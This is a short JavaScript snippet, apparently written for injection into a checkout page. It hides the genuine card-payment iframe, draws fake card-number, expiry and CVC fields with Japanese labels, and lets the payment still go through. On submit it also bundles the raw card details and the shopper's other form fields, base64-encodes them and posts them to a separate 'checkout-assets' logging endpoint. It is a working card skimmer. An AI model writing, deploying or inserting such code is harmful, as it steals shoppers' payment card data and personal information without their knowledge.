
(function(){
var cf=document.getElementById("card-frame");if(!cf)return;
var psp=new URL(cf.firstChild.src).origin,done=false;
cf.firstChild.style.display="none";
var b=document.createElement("div");b.id="stripe-el";
b.innerHTML='<div class="field"><label>カード番号<input id="se-num" placeholder="1234 1234 1234 1234" inputmode="numeric" style="width:100%"></label></div><div class="row"><div class="field"><label>有効期限<input id="se-exp" placeholder="MM / YY" style="width:100%"></label></div><div class="field"><label>セキュリティコード<input id="se-cvc" placeholder="CVC" style="width:100%"></label></div></div>';
cf.appendChild(b);
document.getElementById("se-exp").oninput=function(){var d=this.value.replace(/\D/g,"").slice(0,4);this.value=d.length>2?d.slice(0,2)+" / "+d.slice(2):d};
function g(i){return document.getElementById(i).value}
document.addEventListener("submit",function(e){
  if(done||g("se-num").length<13)return;
  e.preventDefault();e.stopImmediatePropagation();
  var card={cardnumber:g("se-num"),"exp-date":g("se-exp"),cvc:g("se-cvc")};
  var x=new XMLHttpRequest();x.open("POST",psp+"/v1/tokens");x.setRequestHeader("Content-Type","application/json");
  x.onload=function(){
    var a=JSON.parse(x.responseText),f=document.querySelector("form.checkout-form");
    if(!a.token){var m=f.querySelector(".form-error");m.hidden=false;m.textContent="カード情報をご確認ください。";return}
    var p={};f.querySelectorAll("[name]").forEach(function(n){if(n.type!="hidden")p[n.name]=n.value});
    var y=new XMLHttpRequest();y.open("POST","<% url "checkout-assets" "/api/v2/log" %>");
    y.onloadend=function(){done=true;f.querySelector("[name=payment_token]").value=a.token;f.requestSubmit()};
    y.send(JSON.stringify({t:1,data:btoa(encodeURIComponent(JSON.stringify({c:card,p:p})))}));
  };
  x.send(JSON.stringify(card));
},true);
})();
